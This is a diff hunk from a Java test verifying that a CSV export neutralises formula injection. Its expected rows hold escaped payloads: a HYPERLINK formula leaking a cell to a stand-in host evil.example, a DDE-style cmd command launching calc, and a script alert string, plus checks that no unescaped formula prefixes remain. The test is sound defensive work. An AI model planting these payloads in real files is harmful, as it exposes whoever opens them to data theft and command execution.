@@ -187,7 +187,7 @@ class HostileContentTest {
         StandardCharsets.UTF_8).lines().toList();
     assertThat(rows).hasSize(3);
     assertThat(rows).contains("2026-03-03," + GOOD_ID
-        + ",\"'=HYPERLINK(\"\"https://evil.example/?leak=\"\"&A1,\"\"Open invoice\"\")\",\"'@SUM(1+1)*cmd|' /C calc'!A0\",2026-03-02,10,8,7");
+        + ",\"'=HYPERLINK(\"\"https://evil.example/?leak=\"\"&A1,\"\"Open invoice\"\")\",\"'@SUM(1+1)*cmd|' /C calc'!A0\",2026-03-02,10,8,7,,");
     assertThat(rows).anyMatch(r -> r.startsWith("2026-03-04," + OTHER_ID + ",\"'-2+3 <script>alert(1)</script>\","));
     assertThat(rows).noneMatch(r -> r.contains(",=") || r.contains(",\"=") || r.contains(",@") || r.contains(",\"@")
         || r.contains(",-2") || r.contains(",\"-2"));
